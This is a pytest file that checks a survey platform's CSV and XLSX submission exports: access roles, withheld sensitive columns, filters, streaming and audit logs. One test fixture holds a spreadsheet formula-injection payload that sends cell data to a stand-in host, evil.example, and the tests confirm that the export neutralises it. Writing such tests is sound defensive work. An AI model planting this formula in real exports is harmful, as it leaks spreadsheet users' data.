"""Export behaviour through the URLs: access, filters, edits, formulas, XLSX, streaming, audit."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import datetime
from typing import Any

import openpyxl
import pytest
from flask import Flask
from sqlalchemy import select

from collect.domain.exports import tables
from collect.storage.db import db
from collect.storage.models import Audit
from tests.conftest import make_user
from tests.exports.conftest import FORM, KEYS, Sample
from tests.helpers import Api


def table(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def keys(api: Api, sample: Sample, query: str = "") -> list[str]:
    response = api.get(sample.url("csv", query))
    assert response.status_code == 200, response.get_json()
    return [row["KEY"] for row in table(response.data)]


def workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


# Who may export what ---------------------------------------------------------------------------


def test_viewers_never_get_sensitive_columns(sample: Sample) -> None:
    response = sample.viewer.get(sample.url("csv"))
    assert response.status_code == 200
    assert "respondent" not in table(response.data)[0]
    assert response.headers["X-Withheld-Columns"] == (
        "exports_sample.csv: respondent, exports_sample.csv: id_photo"
    )
    for kind in ("csv", "csv.zip", "xlsx"):
        refused = sample.viewer.get(sample.url(kind, "sensitive=include"))
        assert refused.status_code == 403
        assert "project managers" in refused.get_json()["message"]


def test_a_manager_who_asks_gets_sensitive_columns(sample: Sample) -> None:
    response = sample.manager.get(sample.url("csv", "sensitive=include"))
    assert response.status_code == 200
    assert "X-Withheld-Columns" not in response.headers
    names = [row["respondent"] for row in table(response.data)]
    assert names == ["Grace Ndiaye", "Dembo Diallo", "'+33 6 12 34 56 78", "Alice Martin"]
    # Without asking, the manager's export is as safe as anyone's.
    assert "respondent" not in table(sample.manager.get(sample.url("csv")).data)[0]


def test_outsiders_and_strangers_get_nothing(app: Flask, sample: Sample) -> None:
    assert sample.client.get(sample.url("csv")).status_code == 401
    _, stranger = make_user(app, sample.client, "stranger@example.org")
    assert stranger.get(sample.url("csv.zip")).status_code == 404
    missing = f"/v1/projects/{sample.project}/forms/nope/submissions.csv"
    assert sample.admin.get(missing).status_code == 404


# Which submissions ---------------------------------------------------------------------------


def test_an_edited_submission_is_exported_once_with_its_new_values(sample: Sample) -> None:
    rows = table(sample.admin.get(sample.url("csv")).data)
    edited = [row for row in rows if row["KEY"] == KEYS[4]]
    assert len(edited) == 1
    (row,) = edited
    assert row["meta-instanceID"] == "uuid:0a1b2c3d-0005-4000-8000-0000000000e5"
    assert (row["comment"], row["age"], row["household-barriers"]) == (
        "after the edit",
        "46",
        "cost distance",
    )
    assert (row["Edits"], row["ReviewState"], row["FormVersion"]) == ("1", "edited", "2024020101")
    assert row["SubmissionDate"] == "2024-03-15T10:05:00.000Z"  # the first receipt, as Central


def test_rejected_submissions_are_left_out_unless_asked_for(sample: Sample) -> None:
    newest_first = [KEYS[4], KEYS[3], KEYS[1], KEYS[0]]
    assert keys(sample.admin, sample) == newest_first
    assert keys(sample.admin, sample, "rejected=include") == [
        *newest_first[:2],
        KEYS[2],
        *newest_first[2:],
    ]
    # A filter on the review state says itself what it wants.
    assert keys(sample.admin, sample, "$filter=__system/reviewState eq 'rejected'") == [KEYS[2]]
    assert keys(sample.admin, sample, "$filter=__system/reviewState ne 'approved'") == [
        KEYS[4],
        KEYS[3],
        KEYS[2],
        KEYS[0],
    ]
    assert keys(sample.admin, sample, "$filter=__system/reviewState eq null") == [KEYS[0]]


FILTERS: tuple[tuple[str, list[int]], ...] = (
    ("$filter=__system/submissionDate gt 2024-02-01T00:00:00Z", [4, 3]),
    ("$filter=__system/submissionDate lt 2024-01-20T17:45:00Z", [0]),
    ("$filter=__system/submissionDate le 2024-01-20T17:45:00.000Z", [1, 0]),
    ("$filter=__system/submissionDate ge '2024-03-01'", [4, 3]),
    ("$filter=__system/submissionDate lt 2024-01-20T20:00:00%2B02:00", [1, 0]),
    ("$filter=month(__system/submissionDate) eq 3 and day(__system/submissionDate) eq 1", [3]),
    (
        "$filter=year(__system/submissionDate) eq 2024"
        " and not (month(__system/submissionDate) eq 1)",
        [4, 3],
    ),
    (
        "$filter=(__system/reviewState eq 'hasIssues' or __system/reviewState eq 'approved')",
        [3, 1],
    ),
    ("$filter=__system/submitterId eq 2 and __system/submissionDate lt now()", [4, 3, 1, 0]),
    ("$filter=__system/submitterId eq 99", []),
    ("$filter=(month(__system/submissionDate)) eq 3", [4, 3]),
    ("$filter=2024-03-01 le __system/submissionDate", [4, 3]),
    ("$filter='hasIssues' eq __system/reviewState", [3]),
    ("from=2024-01-20&to=2024-03-01", [3, 1]),
    ("from=2024-01-20T18:00:00Z", [4, 3]),
    ("to=2024-01-10T09:00:00.125Z", [0]),
    ("from=2024-03-01&$filter=__system/reviewState eq null", []),
)


def test_filters_choose_submissions_as_central_does(sample: Sample) -> None:
    for query, expected in FILTERS:
        assert keys(sample.viewer, sample, query) == [KEYS[i] for i in expected], query


BAD_OPTIONS: tuple[tuple[str, str], ...] = (
    ("$filter=__system/submissionDate gt", "ends too early"),
    ("$filter=__system/deletedAt eq null", "cannot be filtered on"),
    ("$filter=age gt 3", "unknown term 'age'"),
    ("$filter=__system/submissionDate gt 'yesterday'", "'yesterday' is not a date"),
    ("$filter=__system/reviewState eq 'approved' xor true", "unexpected 'xor'"),
    ("$filter=__system/submissionDate lt null", "null can only be compared"),
    ("from=last week", "'from' must be a date"),
    ("groupPaths=maybe", "'groupPaths' is true or false"),
    ("labels=es", "no language 'es'"),
    ("sensitive=yes", "'sensitive' can only be 'include'"),
)


def test_bad_options_are_explained(sample: Sample) -> None:
    for query, complaint in BAD_OPTIONS:
        response = sample.admin.get(sample.url("csv.zip", query))
        assert response.status_code == 400, query
        assert complaint in response.get_json()["message"], query


# Formulas --------------------------------------------------------------------------------------


def test_formula_like_answers_are_neutralised_and_numbers_left_alone(sample: Sample) -> None:
    rows = {row["KEY"]: row for row in table(sample.admin.get(sample.url("csv")).data)}
    assert rows[KEYS[0]]["comment"].startswith("'=HYPERLINK(")
    assert rows[KEYS[1]]["comment"] == "'-not a number"
    assert rows[KEYS[3]]["comment"] == "'\rstarts with a carriage return"
    assert (rows[KEYS[0]]["score"], rows[KEYS[1]]["score"], rows[KEYS[1]]["age"]) == (
        "-3.5",
        "-0.25",
        "-1",
    )
    assert rows[KEYS[0]]["household-location-Longitude"] == "-1.25"
    raw = {
        row["KEY"]: row for row in table(sample.admin.get(sample.url("csv", "formulas=raw")).data)
    }
    assert raw[KEYS[0]]["comment"] == '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
    assert raw[KEYS[1]]["comment"] == "-not a number"


# XLSX ------------------------------------------------------------------------------------------


def test_xlsx_has_a_sheet_per_table_with_typed_cells(sample: Sample) -> None:
    response = sample.viewer.get(sample.url("xlsx"))
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith(
        'attachment; filename="exports_sample.xlsx"'
    )
    book = workbook(response.data)
    assert book.sheetnames == ["exports_sample", "member", "visit"]
    root = book["exports_sample"]
    assert root.freeze_panes == "A2"
    header = [c.value for c in root[1]]
    zipped = sample.viewer.get(sample.url("csv.zip")).data
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        expected = list(csv.reader(io.StringIO(archive.read("exports_sample.csv").decode())))
    assert header == expected[0]
    first = {name: cell for name, cell in zip(header, root[5], strict=True)}
    assert first["SubmissionDate"].value == datetime(2024, 1, 10, 9, 0, 0, 125000)
    assert first["SubmissionDate"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert (first["age"].value, first["score"].value) == (34, -3.5)
    assert first["household-location-Longitude"].value == -1.25
    assert first["interviewed_at"].value == datetime(2024, 1, 10, 11, 0)
    assert (first["AttachmentsPresent"].value, first["Edits"].value) == (2, 0)
    assert first["meta-instanceID"].value == KEYS[0]
    # A formula-like answer is text that Excel will not run, shown without a visible quote.
    assert first["comment"].value == '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
    assert first["comment"].data_type == "s"
    assert first["comment"].quotePrefix
    assert not first["photo"].quotePrefix
    visit = book["visit"]
    assert visit.freeze_panes == "A2"
    assert visit["A2"].value == datetime(2024, 2, 28)
    assert visit["A2"].number_format == "yyyy-mm-dd"
    # Every value of the sheet is the CSV's value.
    for sheet_row, csv_row in zip(root.iter_rows(min_row=2), expected[1:], strict=True):
        for cell, text in zip(sheet_row, csv_row, strict=True):
            assert _same(cell, text), (cell.coordinate, cell.value, text)


def _same(cell: Any, text: str) -> bool:
    """Whether a typed cell holds what the CSV says, in the CSV's spelling."""
    value = cell.value
    if value is None:
        return text == ""
    if isinstance(value, datetime):
        if cell.number_format == "yyyy-mm-dd":
            return value.date().isoformat() == text
        moment = datetime.fromisoformat(text.replace("Z", "+00:00")).replace(tzinfo=None)
        return abs((moment - value).total_seconds()) < 0.001
    if isinstance(value, int | float):
        return float(text) == value
    # Control characters are stored as _xHHHH_, which Excel decodes and openpyxl does not.
    value = re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)
    return ("'" + value if cell.quotePrefix else value) == text


def test_xlsx_with_labels_and_withheld_columns_says_so(sample: Sample) -> None:
    book = workbook(
        sample.admin.get(sample.url("xlsx", "labels=fr&splitSelectMultiples=true")).data
    )
    root = book["exports_sample"]
    assert root.freeze_panes == "A3"
    labels = [c.value for c in root[2]]
    assert "Obstacles rencontrés/Coût" in labels
    comment = root["A1"].comment
    assert comment is not None
    assert comment.text.endswith("sensitive=include:\nrespondent\nid_photo")
    assert "sensitive=include" in comment.text
    assert book["member"]["A1"].comment is not None
    raw = workbook(sample.admin.get(sample.url("xlsx", "formulas=raw")).data)["exports_sample"]
    header = [c.value for c in raw[1]]
    comment_cell = raw.cell(5, header.index("comment") + 1)
    assert str(comment_cell.value).startswith("=HYPERLINK(") and not comment_cell.quotePrefix
    assert comment_cell.data_type == "s"


# Empty forms, streaming, audit -----------------------------------------------------------------


def test_a_form_without_submissions_exports_its_headers(sample: Sample) -> None:
    query = "$filter=__system/submitterId eq 99"
    assert sample.admin.get(sample.url("csv", query)).data.decode().count("\n") == 1
    book = workbook(sample.admin.get(sample.url("xlsx", query)).data)
    assert book["exports_sample"].max_row == 1
    with zipfile.ZipFile(io.BytesIO(sample.admin.get(sample.url("csv.zip", query)).data)) as z:
        assert [n for n in z.namelist() if n.endswith(".csv")] == [
            "exports_sample.csv",
            "exports_sample-member.csv",
            "exports_sample-visit.csv",
        ]


@pytest.mark.parametrize("kind", ["csv", "csv.zip", "xlsx"])
def test_exports_stream_before_all_rows_are_read(
    app: Flask, sample: Sample, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    app.config.update(EXPORT_BATCH_ROWS=1, EXPORT_CHUNK_BYTES=1)
    seen: list[str] = []
    rows = tables.Layout.rows

    def counted(self: tables.Layout, sub: tables.SubmissionInfo, values: Any) -> Any:
        seen.append(sub.instance_id)
        return rows(self, sub, values)

    monkeypatch.setattr(tables.Layout, "rows", counted)
    response = sample.admin.get(sample.url(kind))
    assert response.is_streamed
    chunks = iter(response.response)
    first = bytes(next(chunks))  # type: ignore[arg-type]
    assert first
    assert len(seen) < 4  # the first bytes left before the query had given every row
    rest = b"".join(bytes(c) for c in chunks)  # type: ignore[arg-type]
    response.close()
    assert len(seen) == 4
    if kind == "csv":
        assert first.startswith(b"SubmissionDate,")
        assert len(table(first + rest)) == 4
    else:
        assert first.startswith(b"PK\x03\x04")
        with zipfile.ZipFile(io.BytesIO(first + rest)) as archive:
            assert archive.testzip() is None
        if kind == "xlsx":
            assert workbook(first + rest)["exports_sample"].max_row == 5


def test_a_client_that_goes_away_stops_the_export(
    app: Flask, sample: Sample, monkeypatch: pytest.MonkeyPatch
) -> None:
    app.config.update(EXPORT_BATCH_ROWS=1, EXPORT_CHUNK_BYTES=1)
    seen: list[str] = []
    rows = tables.Layout.rows

    def counted(self: tables.Layout, sub: tables.SubmissionInfo, values: Any) -> Any:
        seen.append(sub.instance_id)
        return rows(self, sub, values)

    monkeypatch.setattr(tables.Layout, "rows", counted)
    response = sample.admin.get(sample.url("csv"))
    chunks = iter(response.response)
    next(chunks)
    next(chunks)
    response.close()  # what the server does when the socket closes
    assert len(seen) < 4
    assert sample.admin.get(sample.url("csv")).status_code == 200


def test_every_export_is_logged_with_who_what_and_how(app: Flask, sample: Sample) -> None:
    sample.viewer.get(sample.url("csv.zip", "groupPaths=false&labels=fr"))
    sample.manager.get(sample.url("xlsx", "sensitive=include&$filter=__system/reviewState eq null"))
    with app.app_context():
        logged = db.session.scalars(
            select(Audit).where(Audit.action == "form.submission.export").order_by(Audit.id)
        ).all()
        assert len(logged) == 2
        viewer, manager = logged
        assert viewer.acted_on == manager.acted_on
        assert str(viewer.acted_on).startswith("form:")
        assert viewer.details["xmlFormId"] == FORM
        assert viewer.details["format"] == "csv.zip"
        assert viewer.details["options"]["groupPaths"] is False
        assert viewer.details["options"]["labels"] == "fr"
        assert viewer.details["withheld"] == [
            "exports_sample.csv: respondent",
            "exports_sample.csv: id_photo",
            "exports_sample-member.csv: phone",
        ]
        assert manager.details["format"] == "xlsx"
        assert manager.details["options"]["sensitive"] == "include"
        assert manager.details["options"]["$filter"] == "__system/reviewState eq null"
        assert manager.details["withheld"] == []
        assert viewer.actor_id != manager.actor_id
        assert viewer.logged_at <= manager.logged_at
